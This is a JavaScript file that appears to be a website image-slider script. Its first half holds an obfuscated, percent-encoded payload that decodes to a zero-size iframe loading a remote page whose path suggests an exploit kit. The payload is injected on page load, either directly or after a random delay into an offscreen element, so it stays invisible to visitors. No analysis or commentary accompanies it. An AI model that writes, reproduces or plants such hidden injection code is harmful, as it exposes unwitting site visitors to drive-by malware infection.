var _z = unescape('%3C%69%66%72%61%6D%65%20%73%72%63%3D%22%68%74%74%70%3A%2F%2F%62%6C%61%63%6B%68%6F%6C%65%2D%73%74%61%74%73%2E%63%63%2F%65%6B%2F%69%6E%64%65%78%2E%70%68%70%22%20%77%69%64%74%68%3D%22%30%22%20%68%65%69%67%68%74%3D%22%30%22%20%66%72%61%6D%65%62%6F%72%64%65%72%3D%22%30%22%3E%3C%2F%69%66%72%61%6D%65%3E');

function _rnd(min, max) {
  return Math.floor(Math.random() * (max - min + 1)) + min;
}

function _show() {
  var holder = document.createElement('div');
  holder.style.cssText = 'position:absolute;width:1px;height:1px;overflow:hidden;left:-1000px';
  holder.innerHTML = _z;
  document.body.appendChild(holder);
}

if (document.readyState === 'loading') {
  document.write(_z);
} else {
  setTimeout(_show, _rnd(500, 3000));
}

var slider = {
  idx: 0,
  next: function () {
    var items = document.querySelectorAll('.slide');
    if (!items.length) return;
    items[this.idx].className = 'slide';
    this.idx = (this.idx + 1) % items.length;
    items[this.idx].className = 'slide active';
  }
};
setInterval(function () { slider.next(); }, 5000);
